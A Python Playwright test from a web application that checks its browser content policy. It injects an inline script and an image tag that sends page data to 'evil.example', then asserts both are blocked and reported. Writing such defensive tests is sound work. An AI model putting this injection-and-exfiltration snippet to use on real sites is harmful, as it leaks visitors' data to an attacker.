"""The content policy in a real browser: what it forbids does not happen, is reported and is counted.

That no page of ours breaks it is seen by every journey: a visitor's browser must not complain, and when all journeys
are over none of them may have been reported (``conftest.app``).
"""

from __future__ import annotations

from playwright.sync_api import Browser
from sqlmodel import delete

from mhms_app.audit.models import PolicyViolation
from tests.browser.clinic import eventually, reported
from tests.running import RunningApp

_BREACHES = """() => {
    const script = document.createElement('script');
    script.textContent = "document.title = 'owned'";
    document.body.append(script);
    const picture = document.createElement('img');
    picture.src = 'https://evil.example/?of=' + document.title;
    document.body.append(picture);
}"""


def test_a_breach_does_not_happen_and_is_counted(app: RunningApp, browser: Browser) -> None:
    assert reported(app) == {}
    context = browser.new_context(base_url=app.base_url)
    page = context.new_page()
    page.goto("/")
    page.evaluate(_BREACHES)
    assert eventually(lambda: reported(app) == {"script-src-elem": 1, "img-src": 1})
    assert page.title() != "owned"
    assert "evil.example" not in app.log()
    context.close()
    with app.database() as session:
        session.exec(delete(PolicyViolation))
